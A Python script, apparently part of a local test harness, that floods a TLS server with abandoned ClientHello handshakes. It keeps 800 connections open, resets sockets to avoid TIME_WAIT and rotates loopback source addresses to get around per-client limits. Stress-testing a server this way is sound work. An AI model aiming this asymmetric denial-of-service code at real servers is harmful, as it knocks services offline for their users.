"""TLS clients that begin handshakes as fast as they can, in a process of their own: `tls_attackers.py PORT`. It does not end.

They send a ClientHello each and are never heard of again: the server pays for a key exchange and a signature, the client for next to nothing.
"""

from __future__ import annotations

import collections
import contextlib
import itertools
import socket
import struct
import sys

from daemon import HOST
from tls_client import client_hello

OPEN = 800  # connections at a time
RESET = struct.pack("ii", 1, 0)  # for SO_LINGER: no port stays in TIME_WAIT


def main(port: int) -> None:
    octets, streams = client_hello(), collections.deque[socket.socket]()
    for number in itertools.count():
        stream = socket.socket()
        streams.append(stream)
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        stream.settimeout(1)
        with contextlib.suppress(OSError):
            # The number of connections is limited per client.
            stream.bind((f"127.30.{number // 250 % 250}.{number % 250 + 1}", 0))
            stream.connect((HOST, port))
            stream.sendall(octets)
        if len(streams) > OPEN:
            streams.popleft().close()


if __name__ == "__main__":
    main(int(sys.argv[1]))
